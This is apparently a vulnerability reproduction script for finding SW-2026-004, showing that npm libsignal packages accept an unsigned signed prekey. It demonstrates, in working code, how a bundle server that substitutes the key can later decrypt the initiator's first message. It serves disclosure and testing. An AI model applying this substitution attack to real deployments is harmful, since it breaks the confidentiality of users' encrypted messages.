// SW-2026-004: npm `libsignal` 6.x / `libsignal-node` 2.x accept a prekey
// bundle whose signed prekey is not signed by the identity key. Shows what a
// bundle server that substitutes the signed prekey gets:
//   1. the initiator accepts the bundle and encrypts to it;
//   2. the responder cannot decrypt (its real signed prekey does not match);
//   3. the server, holding the substituted key and, later, the responder's
//      identity private key, decrypts the initiator's first message.
//
//   node conformance/findings/repro_sw_2026_004_signed_prekey.js libsignal-wa|libsignal-node
//
// Prints one line; exit 0 when all three hold (the defect is present).
'use strict';
const path = require('node:path');
const { createRequire } = require('node:module');

const which = process.argv[2];
const pkg = { 'libsignal-wa': 'libsignal', 'libsignal-node': 'libsignal-node' }[which];
if (!pkg) {
  process.stderr.write('usage: repro_sw_2026_004_signed_prekey.js libsignal-wa|libsignal-node\n');
  process.exit(2);
}
for (const m of ['log', 'info', 'warn', 'error', 'debug']) console[m] = () => {};
const req = createRequire(path.join(__dirname, '..', 'adapters', which, 'package.json'));
const lib = req(pkg);
const crypto = req(`${pkg}/src/crypto.js`);
const curve = req(`${pkg}/src/curve.js`);
const { WhisperMessage, PreKeyWhisperMessage } = req(`${pkg}/src/protobufs.js`);

class Store {
  constructor() {
    this.identity = lib.keyhelper.generateIdentityKeyPair();
    this.registrationId = lib.keyhelper.generateRegistrationId();
    this.signed = lib.keyhelper.generateSignedPreKey(this.identity, 1);
    this.records = new Map();
  }
  async loadSession(a) { const r = this.records.get(a); return r && lib.SessionRecord.deserialize(JSON.parse(r)); }
  async storeSession(a, rec) { this.records.set(a, JSON.stringify(rec.serialize())); }
  async isTrustedIdentity() { return true; }
  async getOurIdentity() { return this.identity; }
  async getOurRegistrationId() { return this.registrationId; }
  async loadPreKey() { return undefined; }
  async loadSignedPreKey(id) { return id === 1 ? this.signed.keyPair : undefined; }
  async removePreKey() {}
}

async function main() {
  const A = new lib.ProtocolAddress('alice', 1);
  const B = new lib.ProtocolAddress('bob', 1);
  const alice = new Store();
  const bob = new Store();
  // The server replaces Bob's signed prekey by its own key, signed by nobody.
  const substitute = curve.generateKeyPair();
  let accepted = true;
  try {
    await new lib.SessionBuilder(alice, B).initOutgoing({
      identityKey: bob.identity.pubKey,
      registrationId: bob.registrationId,
      signedPreKey: { keyId: 1, publicKey: substitute.pubKey, signature: Buffer.alloc(64, 1) },
    });
  } catch {
    accepted = false;
  }
  if (!accepted) {
    process.stdout.write(`not reproduced: ${pkg}: bundle with an unsigned signed prekey refused\n`);
    process.exit(1);
  }
  const first = (await new lib.SessionCipher(alice, B).encrypt(Buffer.from('first message'))).body;
  let bobReads = true;
  try { await new lib.SessionCipher(bob, A).decryptPreKeyWhisperMessage(first); } catch { bobReads = false; }

  // Later: the server also has Bob's identity private key. It recomputes the
  // initiator's X3DH (no one-time prekey) and the first sending chain.
  const pre = PreKeyWhisperMessage.decode(first.subarray(1));
  const inner = Buffer.from(pre.message);
  const msg = WhisperMessage.decode(inner.subarray(1, inner.length - 8));
  const s = Buffer.alloc(32 * 4, 0xff);
  curve.calculateAgreement(pre.identityKey, substitute.privKey).copy(s, 32);       // DH(IK_A, SPK)
  curve.calculateAgreement(pre.baseKey, bob.identity.privKey).copy(s, 64);          // DH(EK_A, IK_B)
  curve.calculateAgreement(pre.baseKey, substitute.privKey).copy(s, 96);            // DH(EK_A, SPK)
  const master = crypto.deriveSecrets(s, Buffer.alloc(32), Buffer.from('WhisperText'));
  const sending = crypto.deriveSecrets(curve.calculateAgreement(msg.ephemeralKey, substitute.privKey),
    master[0], Buffer.from('WhisperRatchet'));
  let ck = sending[1];
  for (let i = 0; i < msg.counter; i++) ck = crypto.calculateMAC(ck, Buffer.from([2]));
  const keys = crypto.deriveSecrets(crypto.calculateMAC(ck, Buffer.from([1])), Buffer.alloc(32), Buffer.from('WhisperMessageKeys'));
  let read = null;
  try { read = crypto.decrypt(keys[0], msg.ciphertext, keys[2].slice(0, 16)).toString(); } catch { read = null; }
  const ok = accepted && !bobReads && read === 'first message';
  process.stdout.write(`${ok ? 'reproduced' : 'not reproduced'}: ${pkg}: unsigned signed prekey accepted ${accepted}; ` +
    `responder decrypts ${bobReads}; substitute key + responder's identity key decrypt the first message: ${JSON.stringify(read)}\n`);
  process.exit(ok ? 0 : 1);
}
main().catch((e) => { process.stderr.write(`${e.stack}\n`); process.exit(2); });
